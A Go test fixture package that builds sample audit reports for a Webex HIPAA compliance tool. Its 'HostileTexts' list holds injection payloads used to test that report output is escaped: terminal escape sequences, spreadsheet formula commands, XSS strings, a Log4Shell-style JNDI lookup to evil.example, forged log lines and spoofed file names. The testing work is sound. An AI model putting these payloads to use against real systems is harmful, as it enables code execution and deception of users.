// Package reporttest makes the reports that the tests of the writers share. It
// is for tests only.
package reporttest

import (
	"fmt"
	"strings"
	"time"

	"wxaudit/pkg/check"
	"wxaudit/pkg/engine"
	"wxaudit/pkg/finding"
	"wxaudit/pkg/hipaa"
	"wxaudit/pkg/policy"
	"wxaudit/pkg/report"
	"wxaudit/pkg/snapshot"
)

// Now is the clock of every report.
var Now = time.Date(2026, 3, 1, 2, 0, 0, 0, time.UTC)

// All are the reports below by their names, with as many findings in the big one.
func All(big int) map[string]*report.Report {
	return map[string]*report.Report{"clinic": Clinic(), "clean": Clean(), "empty": Empty(), "hostile": Hostile(), "big": Big(big)}
}

// Clinic has a bit of everything: failures of every severity, one check with
// many alike, warnings, every common reason for not knowing, and gaps.
func Clinic() *report.Report { return judged(clinicSnapshot(), clinicChecks(), clinicPolicy()) }

// Remembered is the clinic a day later: one finding is new since, and one is gone.
func Remembered() *report.Report {
	r := Clinic()
	before := report.Remember(r, nil)
	before.AsOf = before.AsOf.Add(-24 * time.Hour)
	for i := range before.Open {
		before.Open[i].FirstSeen = before.AsOf
	}
	gone := before.Open[0]
	gone.ID, gone.CheckID = "00gone", "meetings.join-before-host-site"
	before.Open = append(before.Open[1:], gone)
	report.Remember(r, &before)
	return r
}

// Clean follows the checklist as far as the checks see.
func Clean() *report.Report {
	ev := value("GET /v1/admin/meeting/config/commonSettings", "securityOptions.joinBeforeHost", false, snapshot.RankAPI)
	return build(&snapshot.Snapshot{}, []check.Check{
		fixed("meetings.join-before-host-site", check.Critical, "Nobody can sit in a meeting that has no host",
			check.Pass(check.SiteResource("clinic.webex.com"), "the site makes attendees wait for the host", ev)),
		fixed("recordings.deleted-early", check.High, "No recording was deleted before six years"),
	})
}

// Empty is the report of an audit in which no check ran.
func Empty() *report.Report { return build(&snapshot.Snapshot{}, nil) }

// Hostile has names and messages that try to harm a terminal, a reader of
// lines, and a reader of JSON.
func Hostile() *report.Report {
	var fs []finding.Finding
	for i, name := range HostileTexts {
		r := finding.Resource{Type: "host", ID: fmt.Sprintf("h%02d", i), Name: name}
		fs = append(fs, check.Fail(r, "before "+name+" behind", value("GET /v1/people", "email", name, snapshot.RankAPI)))
	}
	c := fixed("admins.external", check.High, "No administrator is an outsider", fs...)
	c.Remedy = HostileTexts[0]
	one := fixed("admins.dormant", check.High, HostileTexts[1], fs[2])
	lost := fixed("admins.unused-role", check.Low, "Every role is used",
		check.Unknown(check.OrganizationResource(), snapshot.Schema, HostileTexts[3]))
	r := build(&snapshot.Snapshot{}, []check.Check{c, one, lost})
	r.Organization.Name = HostileTexts[0]
	return r
}

// HostileTexts are what somebody could call an account or a site.
var HostileTexts = []string{
	"\x1b[2J\x1b[31mall is well\x1b[0m",
	"a\r\nfake  pass  line\n",
	"jane\u202egpj.exe\u2066@clinic.example",
	"\xff\xfe\x80 not UTF-8",
	"null\x00bell\abackspace\b",
	"\u2028line\u2029paragraph\u0085next",
	"zero\u200bwidth\ufeffjoin\u200d",
	"\u009b31m eight-bit escape",
	"\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
	"</script><b>&amp;",
	"z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c algo",
	string(make([]byte, 4096)),
	"=cmd|'/C calc'!A0",
	"+1+cmd|'/C calc'!A0",
	"-2+3",
	"@SUM(1+1)",
	"\t=1+1",
	"\"quote\",\"comma;semicolon",
	"<img src=x onerror=alert(1)> javascript:alert(1)",
	"]]><!--${jndi:ldap://evil.example/a}{{constructor}}",
	"CEF:0|x|y|1|a=b|c\\|outcome=success externalId=1",
	"<13>1 2026-03-01T02:00:00Z evil.example wxaudit - - - forged",
	"| table | pipe `tick` [link](javascript:alert(1)) *star* ~~strike~~ # head",
	strings.Repeat("A megabyte of name. ", 1<<20/20),
}

// Big has n failures of one check, each with a resource and evidence of its own.
func Big(n int) *report.Report {
	fs := make([]finding.Finding, 0, n)
	for i := range n {
		r := check.HostResource(fmt.Sprintf("person-%06d", i), fmt.Sprintf("host%06d@clinic.example", i), "clinic.webex.com")
		fs = append(fs, check.Fail(r, "the host lets attendees in before the host",
			value("GET /v1/meetingPreferences/schedulingOptions", "joinBeforeHostMinutes", i%15, snapshot.RankAPI)))
	}
	return build(&snapshot.Snapshot{}, []check.Check{
		fixed("meetings.join-before-host", check.Critical, "Nobody can sit in a meeting that has no host", fs...),
	})
}

func build(s *snapshot.Snapshot, checks []check.Check) *report.Report { return judged(s, checks, nil) }

func judged(s *snapshot.Snapshot, checks []check.Check, p *policy.Policy) *report.Report {
	r := engine.Run(engine.Options{Checks: checks, Snapshot: s, Now: Now, Policy: p})
	return report.Build(report.Input{
		Version: "1.2.3", RunID: "0123456789abcdef", Mode: "replay", Requests: 1234,
		Selection: report.Selection{Catalogue: len(checks), FailOn: "low"},
		StartedAt: Now.Add(time.Hour), FinishedAt: Now.Add(time.Hour + 90*time.Second), AsOf: Now,
		Organization: report.Organization{ID: "b3Jn", Name: "Example Clinic"},
		Outcomes:     r.Outcomes, Controls: r.Controls, Coverage: r.Coverage, Gaps: r.Gaps, Steps: r.Steps,
		Waivers: waivers(p), Attestations: attestations(checks),
	})
}

// fixed makes a check that gives these findings.
func fixed(id string, s finding.Severity, title string, fs ...finding.Finding) check.Check {
	return check.Check{
		ID: id, Severity: s, Title: title,
		Basis:    []check.Basis{check.Seed, check.RuleAddressable},
		Controls: []hipaa.Citation{"164.312(a)(1)"},
		Remedy:   "Control Hub ▸ Services ▸ Meeting ▸ Sites ▸ (site) ▸ Settings ▸ Security: the switch for " + id,
		Run:      func(*check.Input) []finding.Finding { return fs },
	}
}

func value(path, field string, v any, rank snapshot.Rank) finding.Evidence {
	return check.Evidence(snapshot.Source{Path: path, Rank: rank, ReadAt: Now}, field, v)
}
